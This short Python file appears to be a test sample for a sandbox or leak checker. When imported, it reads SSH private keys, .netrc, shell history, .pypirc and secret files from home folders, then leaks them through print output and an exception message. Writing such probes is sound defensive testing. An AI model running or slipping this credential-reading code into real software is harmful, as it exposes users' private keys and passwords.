# tries: to read keys and histories in home folders
# plain: leaks

import os
import pathlib

loot = ""
for home in {os.path.expanduser("~"), "@HOME@", "/root", "/home"}:
    for name in ("secret.txt", ".ssh/id_rsa", ".netrc", ".bash_history", ".pypirc"):
        try:
            loot += (pathlib.Path(home) / name).read_text()
        except OSError:
            pass


def double(x):
    print(loot)
    return loot


def mean_square(x):
    raise ValueError(loot)
